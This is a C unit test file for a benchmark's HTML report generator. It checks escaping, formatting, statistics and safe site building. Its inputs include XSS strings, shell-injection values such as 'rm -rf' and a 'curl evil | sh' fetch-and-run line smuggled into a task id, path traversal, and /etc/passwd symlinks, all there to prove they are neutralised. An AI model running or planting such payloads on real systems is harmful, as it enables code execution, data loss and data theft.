/* Tests for runner/report/ (cab report): the escapers (HTML, URLs, JSON in a
 * script block, shell words), the published formats (3 decimals, "3.9s",
 * blank when null), slugs, the cast reader, badges, the aggregates under a
 * filter, and whole sites built from tests/fixtures/report/hostile/ (a cell
 * whose every string carries an HTML injection): no payload survives
 * unescaped anywhere in the site, and SITE is replaced only when it is an
 * earlier site.
 *
 * Run from the source tree's root (tests/run.sh does). */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <math.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "common/fsutil.h"
#include "runner/report/internal.h"
#include "scorers/axes.h"

#define HOSTILE "tests/fixtures/report/hostile"

/* ---- helpers ------------------------------------------------------------------ */

struct cap {
  char *text;
  size_t len;
  FILE *f;
};

static FILE *
cap_open(struct cap *c)
{
  c->text = NULL;
  c->len = 0;
  c->f = open_memstream(&c->text, &c->len);
  assert_non_null(c->f);
  return c->f;
}

static char *
cap_close(struct cap *c)
{
  fclose(c->f);
  return c->text;
}

/* The escaped form of S, as a malloc'd string. */
static char *
esc(void (*fn)(FILE *, const char *), const char *s)
{
  struct cap c;
  fn(cap_open(&c), s);
  return cap_close(&c);
}

#define ASSERT_ESC(fn, in, out)                                                                    \
  do {                                                                                             \
    char *got_ = esc(fn, in);                                                                      \
    assert_string_equal(got_, out);                                                                \
    free(got_);                                                                                    \
  } while (0)

static int
rm_cb(const char *p, const struct stat *st, int flag, struct FTW *f)
{
  (void)st;
  (void)flag;
  (void)f;
  return remove(p);
}

static void
rm_rf(const char *p)
{
  nftw(p, rm_cb, 16, FTW_DEPTH | FTW_PHYS);
}

static void
copy_file(const char *from, const char *to)
{
  char *text = NULL;
  size_t len = 0;
  cab_error err = {0};
  if (cab_read_file_at(AT_FDCWD, from, 1 << 24, &text, &len, &err) < 0)
    fail_msg("%s", err.message);
  FILE *f = fopen(to, "w");
  assert_non_null(f);
  fwrite(text, 1, len, f);
  fclose(f);
  free(text);
}

/* A results tree under a fresh temp dir: the hostile fixture in a directory
 * whose own name is an injection. */
static void
make_results(char *root, size_t size, char *cell, size_t csize)
{
  snprintf(root, size, "/tmp/cab-test-report.XXXXXX");
  assert_non_null(mkdtemp(root));
  snprintf(cell, csize, "%s/results/sweep/x\"><img src=x onerror=alert(8)>", root);
  cab_error err = {0};
  if (cab_mkdir_p(cell, 0755, &err) < 0)
    fail_msg("%s", err.message);
  static const char *const files[] = {"cell.json", "agent.log", "verify.log", "diff.patch",
                                      "terminal.cast", "model_calls.jsonl"};
  for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
    char from[512], to[4096];
    snprintf(from, sizeof from, HOSTILE "/%s", files[i]);
    snprintf(to, sizeof to, "%s/%s", cell, files[i]);
    copy_file(from, to);
  }
}

/* ---- escaping ------------------------------------------------------------------- */

static void
test_escape_html(void **state)
{
  (void)state;
  ASSERT_ESC(rh_esc, "<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;");
  ASSERT_ESC(rh_esc, "\"><img src=x onerror='y'>&", "&quot;&gt;&lt;img src=x onerror=&#39;y&#39;&gt;&amp;");
  ASSERT_ESC(rh_esc, "tab\tnl\nbell\aesc\x1b" "del\x7f", "tab\tnl\nbellescdel");
  ASSERT_ESC(rh_esc, "× ünïcode", "× ünïcode");
  struct cap c;
  rh_escn(cap_open(&c), "a\0<b", 4);
  char *got = cap_close(&c);
  assert_string_equal(got, "a&lt;b");
  free(got);
}

static void
term(FILE *f, const char *s)
{
  rh_term(f, s, strlen(s));
}

static void
test_escape_terminal(void **state)
{
  (void)state;
  ASSERT_ESC(term, "\x1b[1;31mred\x1b[0m <b>\r\n", "red &lt;b&gt;\n");
  ASSERT_ESC(term, "\x1b]0;title<x>\a" "after", "after");
  ASSERT_ESC(term, "\x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\", "link");
  ASSERT_ESC(term, "\x1b[?25l\x1b(Bok\x1b", "ok");
  ASSERT_ESC(term, "50%\r100%", "50%100%");
}

static void
test_escape_url(void **state)
{
  (void)state;
  ASSERT_ESC(rh_url, "cell/a b/\"<x>#?.html", "cell/a%20b/%22%3Cx%3E%23%3F.html");
  ASSERT_ESC(rh_url, "../x~y_z-1.2/index.html", "../x~y_z-1.2/index.html");
  ASSERT_ESC(rh_url, "javascript:alert(1)", "javascript%3Aalert%281%29");
}

static void
test_escape_json_script(void **state)
{
  (void)state;
  const char *payload = "</script><script>alert(1)</script>&\xe2\x80\xa8<!--";
  cJSON *j = cJSON_CreateObject();
  cJSON_AddStringToObject(j, "s", payload);
  struct cap c;
  rh_json_script(cap_open(&c), j);
  char *got = cap_close(&c);
  assert_null(strchr(got, '<'));
  assert_null(strchr(got, '>'));
  assert_null(strchr(got, '&'));
  assert_null(strstr(got, "\xe2\x80\xa8"));
  cJSON *back = cJSON_Parse(got);
  assert_non_null(back);
  assert_string_equal(cJSON_GetObjectItem(back, "s")->valuestring, payload);
  cJSON_Delete(back);
  cJSON_Delete(j);
  free(got);
}

static void
test_shell_words(void **state)
{
  (void)state;
  ASSERT_ESC(rh_shell_arg, "polyglot/python-reverse-string", "polyglot/python-reverse-string");
  ASSERT_ESC(rh_shell_arg, "cab/agents:bookworm@sha256:ab", "cab/agents:bookworm@sha256:ab");
  ASSERT_ESC(rh_shell_arg, "a b", "&#39;a b&#39;");
  ASSERT_ESC(rh_shell_arg, "it's;rm -rf /", "&#39;it&#39;\\&#39;&#39;s;rm -rf /&#39;");
  ASSERT_ESC(rh_shell_arg, "", "&#39;&#39;");
  ASSERT_ESC(rh_shell_arg, "$(id)", "&#39;$(id)&#39;");
}

/* ---- formats as the published cell page ------------------------------------------ */

static void
test_formats(void **state)
{
  (void)state;
  char b[64];
  rh_fmt3(b, sizeof b, (struct rnum){true, 0.5811826367427722});
  assert_string_equal(b, "0.581");
  rh_fmt3(b, sizeof b, (struct rnum){true, 1});
  assert_string_equal(b, "1.000");
  rh_fmt3(b, sizeof b, (struct rnum){false, 0});
  assert_string_equal(b, "");
  rh_fmt3(b, sizeof b, (struct rnum){true, NAN});
  assert_string_equal(b, "");
  rh_fmt_wall(b, sizeof b, (struct rnum){true, 3913.7439999999997});
  assert_string_equal(b, "3.9s");
  rh_fmt_wall(b, sizeof b, (struct rnum){false, 0});
  assert_string_equal(b, "");
  rh_fmt_int(b, sizeof b, 1100);
  assert_string_equal(b, "1,100");
  rh_fmt_int(b, sizeof b, 4184);
  assert_string_equal(b, "4,184");
  rh_fmt_int(b, sizeof b, 999);
  assert_string_equal(b, "999");
  rh_fmt_int(b, sizeof b, 1234567);
  assert_string_equal(b, "1,234,567");
  rh_fmt_int(b, sizeof b, -1234);
  assert_string_equal(b, "-1,234");
  rh_fmt_ms(b, sizeof b, 12.4);
  assert_string_equal(b, "12 ms");
  rh_fmt_ms(b, sizeof b, 3913.7);
  assert_string_equal(b, "3.91 s");
}

static void
test_slugs_and_paths(void **state)
{
  (void)state;
  char b[512];
  report_slug_path(b, sizeof b, "cell", "sweep/opencode/meta/llama-4/polyglot/task/run-1");
  assert_string_equal(b, "cell/sweep/opencode/meta/llama-4/polyglot/task/run-1");
  report_slug_path(b, sizeof b, "tm", "../x/./.hidden/a b\"<>");
  assert_string_equal(b, "tm/_./x/_/_hidden/a_b___"); /* no "." or ".." survives */
  report_slug_path(b, sizeof b, "task", "");
  assert_string_equal(b, "task/_");
  char longname[300];
  memset(longname, 'a', sizeof longname - 1);
  longname[sizeof longname - 1] = '\0';
  report_slug_path(b, sizeof b, "x", longname);
  assert_int_equal(strlen(b), 2 + 80);
  rh_up(b, sizeof b, "cell/a/b/c");
  assert_string_equal(b, "../../../../");
  rh_up(b, sizeof b, "");
  assert_string_equal(b, "");
}

static void
test_parse_iso(void **state)
{
  (void)state;
  double a, b;
  assert_true(report_parse_iso("2026-06-17T06:30:21.091487Z", &a));
  assert_true(report_parse_iso("2026-06-17T06:30:25.005231Z", &b));
  assert_true(fabs((b - a) - 3.913744) < 1e-6);
  assert_true(report_parse_iso("1970-01-01T00:00:01Z", &a));
  assert_true(a == 1.0);
  assert_false(report_parse_iso("2026-06-17 06:30:21", &a));
  assert_false(report_parse_iso("2026-06-17T06:30:21.1+02:00", &a));
  assert_false(report_parse_iso(NULL, &a));
}

/* ---- the cast reader ------------------------------------------------------------------ */

static void
test_cast_parse(void **state)
{
  (void)state;
  const char *cast = "{\"version\":2,\"width\":100,\"height\":30}\n"
                     "[0.5,\"o\",\"one\\r\\n\"]\n"
                     "garbage <script>\n"
                     "[0.25,\"o\",\"back in time\"]\n"
                     "[0.7,\"i\",\"typed\"]\n"
                     "[-1,\"o\",\"negative\"]\n"
                     "\n"
                     "[1.5,\"o\",\"two\"]";
  cJSON *c = report_cast_parse(cast, strlen(cast), 1 << 20);
  assert_non_null(c);
  assert_int_equal(cJSON_GetObjectItem(c, "width")->valueint, 100);
  assert_int_equal(cJSON_GetObjectItem(c, "height")->valueint, 30);
  cJSON *ev = cJSON_GetObjectItem(c, "events");
  assert_int_equal(cJSON_GetArraySize(ev), 3);
  /* never backwards: the out-of-order event plays at the previous time */
  assert_true(cJSON_GetArrayItem(cJSON_GetArrayItem(ev, 1), 0)->valuedouble == 0.5);
  assert_string_equal(cJSON_GetArrayItem(cJSON_GetArrayItem(ev, 2), 1)->valuestring, "two");
  assert_true(cJSON_GetObjectItem(c, "duration")->valuedouble == 1.5);
  assert_int_equal(cJSON_GetObjectItem(c, "skipped")->valueint, 2);
  assert_true(cJSON_IsFalse(cJSON_GetObjectItem(c, "truncated")));
  cJSON_Delete(c);

  /* a byte cap cuts the output */
  c = report_cast_parse(cast, strlen(cast), 6);
  assert_int_equal(cJSON_GetArraySize(cJSON_GetObjectItem(c, "events")), 1);
  assert_true(cJSON_IsTrue(cJSON_GetObjectItem(c, "truncated")));
  cJSON_Delete(c);

  assert_null(report_cast_parse("{\"version\":1}\n", 14, 100));
  assert_null(report_cast_parse("not json\n[1,\"o\",\"x\"]\n", 21, 100));
  c = report_cast_parse("{\"version\":2}", 13, 100); /* header only: no output */
  assert_int_equal(cJSON_GetArraySize(cJSON_GetObjectItem(c, "events")), 0);
  assert_int_equal(cJSON_GetObjectItem(c, "width")->valueint, 80);
  cJSON_Delete(c);
}

/* ---- badges and charts ------------------------------------------------------------------ */

static void
test_badges(void **state)
{
  (void)state;
  assert_string_equal(report_badge_color((struct rnum){true, 0.95}), "#4c1");
  assert_string_equal(report_badge_color((struct rnum){true, 0.9}), "#4c1");
  assert_string_equal(report_badge_color((struct rnum){true, 0.8}), "#97ca00");
  assert_string_equal(report_badge_color((struct rnum){true, 0.6}), "#a4a61d");
  assert_string_equal(report_badge_color((struct rnum){true, 0.581}), "#dfb317");
  assert_string_equal(report_badge_color((struct rnum){true, 0.3}), "#fe7d37");
  assert_string_equal(report_badge_color((struct rnum){true, 0.1}), "#e05d44");
  assert_string_equal(report_badge_color((struct rnum){false, 0}), "#9f9f9f");
  char v[32];
  report_badge_value(v, sizeof v, (struct rnum){true, 0.5811826367427722});
  assert_string_equal(v, "58%");
  report_badge_value(v, sizeof v, (struct rnum){false, 0});
  assert_string_equal(v, "n/a");
  assert_true(report_text_width("mmm") > report_text_width("iii"));
  assert_true(fabs(report_text_width("×") - report_text_width("A")) < 1); /* one code point */

  struct cap c;
  report_badge_svg(cap_open(&c), "opencode × <script>", (struct rnum){true, 0.581});
  char *svg = cap_close(&c);
  assert_non_null(strstr(svg, "opencode × &lt;script&gt;: 58%"));
  assert_non_null(strstr(svg, "fill=\"#dfb317\""));
  assert_null(strstr(svg, "<script"));
  assert_true(strncmp(svg, "<svg xmlns=\"http://www.w3.org/2000/svg\"", 39) == 0);
  free(svg);

  assert_true(report_nice_step(3783) == 1000);
  assert_true(report_nice_step(4184) == 1000);
  assert_true(report_nice_step(1) == 0.2);
  assert_true(report_nice_step(0) == 1);
}

/* ---- the aggregates: infra apart, filters, Pareto ---------------------------------------- */

static void
test_stats(void **state)
{
  (void)state;
  struct rcell cells[5] = {
      {.task_id = "p/a", .family = "p", .language = "python", .outcome = "pass",
       .composite = {true, 0.9}, .pass = {true, 1}, .blast = {true, 0}, .wall_ms = {true, 2000},
       .total_tokens = 100, .tokens_known = true},
      {.task_id = "p/a", .family = "p", .language = "python", .outcome = "fail",
       .composite = {true, 0.5}, .pass = {true, 0}, .blast = {true, 0}, .wall_ms = {true, 4000},
       .total_tokens = 300, .tokens_known = true},
      {.task_id = "m/b", .family = "m", .language = "rust", .outcome = "pass",
       .composite = {true, 0.7}, .pass = {true, 1}, .blast = {true, 0.5}, .wall_ms = {true, 3000},
       .total_tokens = 200, .tokens_known = true, .unexpected = 1},
      {.task_id = "m/b", .family = "m", .language = "rust", .outcome = "infra_error", .infra = true,
       .composite = {true, 0}, .pass = {true, 0}, .blast = {true, 0}, .wall_ms = {true, 100}},
      {.task_id = "m/c", .family = "m", .language = "rust", .outcome = "pass",
       .composite = {true, 0.8}, .pass = {true, 1}, .blast = {true, 0}, .wall_ms = {true, 1000}},
  };
  size_t idx[5] = {0, 1, 2, 3, 4};
  struct rgroup g = {.tui = "t", .model = "m", .cells = idx, .n = 5};
  struct report r = {.cells = cells, .ncells = 5, .groups = &g, .ngroups = 1};
  struct rstats s;
  report_stats(&r, &g, NULL, NULL, &s);
  assert_int_equal(s.cells, 5);
  assert_int_equal(s.infra, 1);
  assert_int_equal(s.scored, 4);
  assert_true(fabs(s.mean.v - (0.9 + 0.5 + 0.7 + 0.8) / 4) < 1e-12);
  assert_true(fabs(s.pass1.v - 0.75) < 1e-12);
  assert_true(fabs(s.ships.v - 0.5) < 1e-12); /* a and c pass on plan; b passes off plan */
  assert_true(s.stays.has && s.stays.v == 0);  /* only p/a was rerun, and its runs disagree */
  assert_true(fabs(s.tokens.v - 200) < 1e-12); /* the cells that recorded tokens */
  assert_true(s.ci_lo.has && s.ci_lo.v < s.mean.v && s.ci_hi.v > s.mean.v);

  report_stats(&r, &g, "m", NULL, &s);
  assert_int_equal(s.cells, 3);
  assert_int_equal(s.infra, 1);
  assert_true(fabs(s.mean.v - 0.75) < 1e-12);
  report_stats(&r, &g, NULL, "python", &s);
  assert_int_equal(s.cells, 2);
  assert_false(s.ci_lo.has); /* one task: no interval */
  report_stats(&r, &g, "p", "rust", &s);
  assert_int_equal(s.cells, 0);
  assert_false(s.mean.has);

  struct rstats pts[3] = {
      {.mean = {true, 0.9}, .tokens = {true, 100}, .wall_s = {true, 5}},
      {.mean = {true, 0.8}, .tokens = {true, 200}, .wall_s = {true, 1}},
      {.mean = {false, 0}, .tokens = {true, 1}, .wall_s = {true, 1}},
  };
  bool on[3];
  report_pareto(pts, 3, true, on);
  assert_true(on[0] && !on[1] && !on[2]);
  report_pareto(pts, 3, false, on);
  assert_true(on[0] && on[1] && !on[2]);
}

/* ---- whole sites ------------------------------------------------------------------------- */

struct scan {
  size_t files, bad;
  char first_bad[4096];
};
static struct scan scan_state;

/* Every payload of the hostile fixture, as it would be if it survived. */
static const char *const raw_payloads[] = {
    "<script>alert", "<img src=x", "<svg onload", "<!--<script", "</script><script", "onerror=alert(2)>",
};

static int
scan_cb(const char *p, const struct stat *st, int flag, struct FTW *f)
{
  (void)f;
  if (flag != FTW_F || !S_ISREG(st->st_mode))
    return 0;
  size_t n = strlen(p);
  if (!(n > 5 && (strcmp(p + n - 5, ".html") == 0 || strcmp(p + n - 4, ".svg") == 0 ||
                  strcmp(p + n - 3, ".js") == 0 || strcmp(p + n - 4, ".css") == 0)))
    return 0;
  char *text = NULL;
  cab_error err = {0};
  if (cab_read_file_at(AT_FDCWD, p, 1 << 26, &text, NULL, &err) < 0)
    return 0;
  scan_state.files++;
  for (size_t i = 0; i < sizeof raw_payloads / sizeof *raw_payloads; i++)
    if (strstr(text, raw_payloads[i]) && scan_state.bad++ == 0)
      snprintf(scan_state.first_bad, sizeof scan_state.first_bad, "%s holds %s", p, raw_payloads[i]);
  free(text);
  return 0;
}

/* The hostile cell's tui/model/family/task, slugged. */
#define HOSTILE_KEY \
  "evil___img_src=x_onerror=alert_2__/x/_script_alert_1__/script_/polyglot/" \
  "___img_src=x_onerror=alert_2__"

static void
test_site_hostile(void **state)
{
  (void)state;
  char root[64], cell[4096], results[4200], site[4200], path[8400];
  make_results(root, sizeof root, cell, sizeof cell);
  snprintf(results, sizeof results, "%s/results", root);
  snprintf(site, sizeof site, "%s/site", root);
  struct cab_report_opts o = {.tasks_dir = "tasks"};
  struct cab_report_summary sum = {0};
  cab_error err = {0};
  if (cab_report_build(results, site, &o, &sum, &err) < 0)
    fail_msg("%s", err.message);
  assert_int_equal(sum.cells, 1);
  assert_int_equal(sum.groups, 1);

  static const char *const expect[] = {
      "index.html", ".cab-report", "assets/report.css", "assets/report.js", "charts/composite.svg",
      "charts/pareto-tokens.svg", "charts/pareto-wall.svg",
      /* one sweep: the published layout, cell/<tui>/<model>/<family>/<task>, and the
       * downloads beside the page */
      "cell/" HOSTILE_KEY "/index.html", "badge/" HOSTILE_KEY ".svg", "cell/" HOSTILE_KEY "/cell.json",
      "cell/" HOSTILE_KEY "/diff.patch", "cell/" HOSTILE_KEY "/terminal.cast",
      "tm/evil___img_src=x_onerror=alert_2__/x/_script_alert_1__/script_/index.html",
      "badge/evil___img_src=x_onerror=alert_2__/x/_script_alert_1__/script_.svg",
      "task/polyglot/___img_src=x_onerror=alert_2__/index.html"};
  for (size_t i = 0; i < sizeof expect / sizeof *expect; i++) {
    snprintf(path, sizeof path, "%s/%s", site, expect[i]);
    if (access(path, R_OK) != 0)
      fail_msg("missing %s", expect[i]);
  }
  /* the cassette named in cell.json (/etc/passwd) is not a cassette: not copied */
  snprintf(path, sizeof path, "%s/cell/" HOSTILE_KEY "/cassette.jsonl", site);
  assert_int_not_equal(access(path, F_OK), 0);
  /* the embedded assets are the files in the tree */
  char *a = NULL, *b = NULL;
  snprintf(path, sizeof path, "%s/assets/report.js", site);
  assert_int_equal(cab_read_file_at(AT_FDCWD, path, 1 << 20, &a, NULL, &err), 0);
  assert_int_equal(cab_read_file_at(AT_FDCWD, "runner/report/assets/report.js", 1 << 20, &b, NULL, &err), 0);
  assert_string_equal(a, b);
  free(a);
  free(b);

  memset(&scan_state, 0, sizeof scan_state);
  nftw(site, scan_cb, 16, FTW_PHYS);
  assert_true(scan_state.files >= 10);
  if (scan_state.bad)
    fail_msg("%zu unescaped payloads; first: %s", scan_state.bad, scan_state.first_bad);

  /* the cell page: sections by id, the strip as published, the payloads as text */
  snprintf(path, sizeof path, "%s/cell/" HOSTILE_KEY "/index.html", site);
  char *html = NULL;
  assert_int_equal(cab_read_file_at(AT_FDCWD, path, 1 << 24, &html, NULL, &err), 0);
  static const char *const ids[] = {"scores", "identity", "timing",      "scorers", "trace",
                                    "terminal", "reproduce", "spans",    "model-calls", "diff",
                                    "logs",   "related",  "badge",       "cast-data",
                                    "explore", "downloads"};
  for (size_t i = 0; i < sizeof ids / sizeof *ids; i++) {
    char want[64];
    snprintf(want, sizeof want, "id=\"%s\"", ids[i]);
    if (strstr(html, want) == NULL)
      fail_msg("the cell page has no %s", want);
  }
  assert_non_null(strstr(html, "<dt>Pass</dt><dd>1.000</dd>"));
  assert_non_null(strstr(html, "<dt>Wall</dt><dd>3.8s</dd>"));
  assert_non_null(strstr(html, "<dt>Refusal</dt><dd></dd>"));
  assert_non_null(strstr(html, "<dt>Tokens/correct</dt><dd>4,184</dd>"));
  assert_non_null(strstr(html, "&lt;script&gt;alert(1)&lt;/script&gt;"));
  assert_non_null(strstr(html, "Content-Security-Policy"));
  assert_non_null(strstr(html, "<span class=\"d-add\">+&quot;&gt;&lt;img src=x onerror=alert(2)&gt;</span>"));
  free(html);

  /* a second build replaces the first (the marker says it is a site) */
  if (cab_report_build(results, site, &o, &sum, &err) < 0)
    fail_msg("rebuild: %s", err.message);
  rm_rf(root);
}

static void
test_site_refusals(void **state)
{
  (void)state;
  char root[64], cell[4096], results[4200], other[4200], path[8400];
  make_results(root, sizeof root, cell, sizeof cell);
  snprintf(results, sizeof results, "%s/results", root);
  struct cab_report_opts o = {.tasks_dir = "tasks"};
  cab_error err = {0};

  /* a directory cab report did not write is never replaced */
  snprintf(other, sizeof other, "%s/mine", root);
  assert_int_equal(mkdir(other, 0755), 0);
  snprintf(path, sizeof path, "%s/precious.txt", other);
  FILE *f = fopen(path, "w");
  fputs("keep me", f);
  fclose(f);
  assert_int_equal(cab_report_build(results, other, &o, NULL, &err), -1);
  assert_non_null(strstr(err.message, "did not write"));
  assert_int_equal(access(path, F_OK), 0);

  /* the results directory itself is refused the same way */
  memset(&err, 0, sizeof err);
  assert_int_equal(cab_report_build(results, results, &o, NULL, &err), -1);

  /* no cells: one error, and nothing left behind beside SITE */
  char empty[4200];
  snprintf(empty, sizeof empty, "%s/empty", root);
  assert_int_equal(mkdir(empty, 0755), 0);
  snprintf(other, sizeof other, "%s/site2", root);
  memset(&err, 0, sizeof err);
  assert_int_equal(cab_report_build(empty, other, &o, NULL, &err), -1);
  assert_non_null(strstr(err.message, "no cab cell"));
  assert_int_not_equal(access(other, F_OK), 0);

  /* an empty directory may be the site */
  assert_int_equal(mkdir(other, 0755), 0);
  memset(&err, 0, sizeof err);
  if (cab_report_build(results, other, &o, NULL, &err) < 0)
    fail_msg("%s", err.message);
  DIR *d = opendir(root);
  struct dirent *e;
  while ((e = readdir(d)) != NULL)
    if (strstr(e->d_name, ".tmp-"))
      fail_msg("left behind: %s", e->d_name);
  closedir(d);
  rm_rf(root);
}

static void
spit(const char *path, const char *text)
{
  FILE *f = fopen(path, "w");
  assert_non_null(f);
  fputs(text, f);
  fclose(f);
}

/* cell.json files of the right schema and the wrong shapes, a symlinked
 * agent.log, a cast with absurd times: the site is still written, and no
 * file outside the cell is read into it. */
static void
test_site_weird(void **state)
{
  (void)state;
  char root[64], dir[256], site[256];
  snprintf(root, sizeof root, "/tmp/cab-test-report.XXXXXX");
  assert_non_null(mkdtemp(root));
  static const char *const cells[][2] = {
      {"a", "{\"schema\":\"cab.cell/v1\",\"tui\":5,\"scorers\":[1,{\"x\":null}],\"spans\":\"no\","
            "\"run\":\"x\",\"model\":[],\"task\":7}"},
      {"b", "{\"schema\":\"cab.cell/v1\",\"task_id\":\"../../etc\",\"scorers\":{\"composite\":"
            "{\"composite\":\"high\"}},\"spans\":[{\"start\":\"bad\"},{\"span_id\":\"1\","
            "\"parent_id\":\"1\",\"start\":\"2026-01-01T00:00:00Z\",\"end\":\"2025-01-01T00:00:00Z\","
            "\"attributes\":[1,2]}]}"},
  };
  for (size_t i = 0; i < 2; i++) {
    snprintf(dir, sizeof dir, "%s/r/%s", root, cells[i][0]);
    cab_error err = {0};
    assert_int_equal(cab_mkdir_p(dir, 0755, &err), 0);
    char path[512];
    snprintf(path, sizeof path, "%s/cell.json", dir);
    spit(path, cells[i][1]);
    snprintf(path, sizeof path, "%s/terminal.cast", dir);
    spit(path, "{\"version\":2}\n[1e308,\"o\",\"absurd-event\"]\n[0.5,\"o\",\"near\"]\n");
    snprintf(path, sizeof path, "%s/agent.log", dir);
    assert_int_equal(symlink("/etc/passwd", path), 0);
    /* downloads: a symlinked artifact is not copied into the site, and a FIFO
     * neither hangs the report nor is copied */
    snprintf(path, sizeof path, "%s/trace.otlp.json", dir);
    assert_int_equal(symlink("/etc/passwd", path), 0);
    snprintf(path, sizeof path, "%s/diff.patch", dir);
    assert_int_equal(mkfifo(path, 0644), 0);
  }
  snprintf(dir, sizeof dir, "%s/r", root);
  snprintf(site, sizeof site, "%s/site", root);
  struct cab_report_opts o = {.tasks_dir = "tasks"};
  struct cab_report_summary sum = {0};
  cab_error err = {0};
  if (cab_report_build(dir, site, &o, &sum, &err) < 0)
    fail_msg("%s", err.message);
  assert_int_equal(sum.cells, 2);
  char path[512], *html = NULL;
  /* b's task_id "../../etc" stays below cell/ */
  snprintf(path, sizeof path, "%s/cell/_/_/_/_./_./etc/index.html", site);
  assert_int_equal(cab_read_file_at(AT_FDCWD, path, 1 << 22, &html, NULL, &err), 0);
  assert_null(strstr(html, "root:x:0:0"));
  assert_non_null(strstr(html, "trace.otlp.json: not a regular file"));
  assert_non_null(strstr(html, "diff.patch: not a regular file"));
  for (size_t i = 0; i < 2; i++) {
    static const char *const pages[] = {"cell/_/_/_/_", "cell/_/_/_/_./_./etc"};
    char copy[600];
    snprintf(copy, sizeof copy, "%s/%s/trace.otlp.json", site, pages[i]);
    assert_int_not_equal(access(copy, F_OK), 0);
    snprintf(copy, sizeof copy, "%s/%s/diff.patch", site, pages[i]);
    assert_int_not_equal(access(copy, F_OK), 0);
    snprintf(copy, sizeof copy, "%s/%s/cell.json", site, pages[i]);
    assert_int_equal(access(copy, F_OK), 0);
  }
  assert_null(strstr(html, "absurd-event"));
  assert_non_null(strstr(html, "near"));
  free(html);
  rm_rf(root);
}

/* An axis without published figures: its row alone gives the cell page's
 * figure (label, headline in its format, blank when null), escaped. */
static void
test_generic_axis_figure(void **state)
{
  (void)state;
  static const struct cab_axis_def speed = {
      .key = "speed<x>", .headline = "speed", .headline_format = "%.2f"};
  cJSON *scorers = cJSON_Parse("{\"speed<x>\":{\"speed\":0.5}}");
  char *html = NULL;
  size_t len = 0;
  FILE *f = open_memstream(&html, &len);
  report_axis_figure(f, &speed, scorers);
  cJSON_ReplaceItemInObject(cJSON_GetObjectItem(scorers, "speed<x>"), "speed",
                            cJSON_CreateNull());
  report_axis_figure(f, &speed, scorers);
  fclose(f);
  assert_string_equal(html, "<div><dt>speed&lt;x&gt;</dt><dd>0.50</dd></div>"
                            "<div><dt>speed&lt;x&gt;</dt><dd></dd></div>");
  free(html);
  cJSON_Delete(scorers);
}

/* "Explore with your own model": codex's adapter (files, env, a workdir
 * argument) rendered for the user's endpoint as shell words; a line break in
 * the cell's model or task id (cell.json is untrusted) stays inside its
 * comment instead of becoming a line the pasted block would run. */
static void
test_explore(void **state)
{
  (void)state;
  setenv("CAB_ADAPTERS_DIR", "runner/adapters", 1);
  struct rcell c = {0};
  c.tui = "codex";
  c.model = "m\nrm -rf ~ #";
  c.task_id = "polyglot/x\ncurl evil | sh";
  cJSON *task = cJSON_Parse("{\"max_turns\": 7}");
  c.rec.task = task;
  char *html = NULL;
  size_t len = 0;
  FILE *f = open_memstream(&html, &len);
  report_cell_explore(f, &c);
  fclose(f);
  cJSON_Delete(task);
  unsetenv("CAB_ADAPTERS_DIR");
  static const char *const want[] = {
      "id=\"explore-cmd\"",
      "export CODEX_HOME=&quot;$HOME/.codex&quot;\n",
      "\ncodex exec \\\n  --json",
      "-C &quot;$PWD&quot;",
      "-m &quot;$YOUR_MODEL_ID&quot;",
      "-- &quot;$(cat README.md)&quot;",
      "<code>~/.codex/config.toml</code>",
      "# in a copy of the task's workdir (tasks/polyglot/x curl evil | sh/workdir)",
      "# Published cell used model: m rm -rf ~ #</code>",
  };
  for (size_t i = 0; i < sizeof want / sizeof *want; i++)
    if (strstr(html, want[i]) == NULL)
      fail_msg("explore lacks %s in:\n%s", want[i], html);
  assert_null(strstr(html, "\nrm -rf"));
  assert_null(strstr(html, "\ncurl evil"));
  assert_null(strstr(html, "169.254.")); /* cab's own model network is not the user's */
  free(html);
}

int
main(void)
{
  const struct CMUnitTest tests[] = {
      cmocka_unit_test(test_escape_html),      cmocka_unit_test(test_escape_terminal),
      cmocka_unit_test(test_escape_url),       cmocka_unit_test(test_escape_json_script),
      cmocka_unit_test(test_shell_words),      cmocka_unit_test(test_formats),
      cmocka_unit_test(test_slugs_and_paths),  cmocka_unit_test(test_parse_iso),
      cmocka_unit_test(test_cast_parse),       cmocka_unit_test(test_badges),
      cmocka_unit_test(test_stats),            cmocka_unit_test(test_site_hostile),
      cmocka_unit_test(test_site_refusals),   cmocka_unit_test(test_site_weird),
      cmocka_unit_test(test_generic_axis_figure), cmocka_unit_test(test_explore),
  };
  return cmocka_run_group_tests(tests, NULL, NULL);
}
